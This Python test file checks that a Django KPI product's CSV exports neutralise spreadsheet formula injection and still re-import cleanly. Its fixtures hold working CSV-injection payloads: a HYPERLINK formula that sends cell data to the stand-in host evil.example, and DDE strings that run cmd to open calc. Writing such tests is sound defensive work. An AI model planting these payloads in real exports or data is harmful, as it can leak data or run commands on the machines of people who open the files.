"""No CSV the product writes carries a formula a spreadsheet would run: text cells starting with
=, +, -, @, |, %, a tab or a carriage return get a leading apostrophe; numbers stay numbers; the
data export still re-imports to the same rows."""

import csv
import datetime
import io

import pytest
from django.core.management import call_command
from django.urls import reverse

from accounts.models import CustomerAccount, Team
from activity.models import SurveyResponse
from kpis import services
from kpis.periods import Period
from tests import factories
from tests.kpis import world

Q3 = Period.parse("2026-Q3")
EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
EVIL_COMMENT = '+cmd|" /C calc"!A0'
EVIL_TEAM = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def w(db, settings):
    settings.TIME_ZONE = "America/New_York"
    w = world.build()
    CustomerAccount.objects.filter(external_id="X1").update(name=EVIL_NAME)
    Team.objects.filter(pk=w["team_a"].pk).update(name=EVIL_TEAM)
    factories.SurveyResponseFactory(
        account=CustomerAccount.objects.get(external_id="X1"),
        kind="nps",
        score=3,
        comment=EVIL_COMMENT,
        responded_at=world.at("2026-08-20T15:00"),
    )
    services.kpi_run_compute(period=Q3, as_of=datetime.date(2026, 11, 1))
    return w


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_no_formula(text: str) -> None:
    for cell in cells(text):
        if cell[:1] in ("=", "+", "@", "|", "%", "\t", "\r"):
            raise AssertionError(f"formula cell: {cell!r}")
        if cell.startswith("-"):
            float(cell.replace(",", ""))  # only a negative number may start with a minus


def test_drill_down_csv(client, w):
    client.force_login(w["ann"])
    for metric in ("nrr", "nps"):
        response = client.get(reverse("explain", args=[w["ann"].pk, metric]) + "?period=2026-Q3&format=csv")
        text = response.content.decode()
        assert_no_formula(text)
    assert "'" + EVIL_COMMENT.replace("|", "\\|") in cells(text)
    nrr = client.get(
        reverse("explain", args=[w["ann"].pk, "nrr"]) + "?period=2026-Q3&format=csv"
    ).content.decode()
    assert "'" + EVIL_NAME in cells(nrr)
    assert "-200.00" in cells(nrr)  # X2 500 -> 300: a negative number stays a number


def test_export_kpis_csv(w, capsys):
    call_command("export_kpis", period="2026-Q3", level="team")
    text = capsys.readouterr().out
    assert_no_formula(text)
    assert "'" + EVIL_TEAM.replace("|", "\\|") in cells(text)


def test_export_data_neutralises_and_reimports_to_the_same_rows(w, tmp_path):
    out = tmp_path / "accounts.csv"
    call_command("export_data", "accounts", output=str(out))
    text = out.read_text()
    assert_no_formula(text)
    assert "'" + EVIL_NAME in cells(text)
    surveys = tmp_path / "surveys.csv"
    call_command("export_data", "surveys", output=str(surveys))
    assert_no_formula(surveys.read_text())
    call_command("import_data", "accounts", str(out), stdout=io.StringIO())
    call_command("import_data", "surveys", str(surveys), stdout=io.StringIO())
    assert CustomerAccount.objects.get(external_id="X1").name == EVIL_NAME
    assert SurveyResponse.objects.filter(comment=EVIL_COMMENT).count() == 1
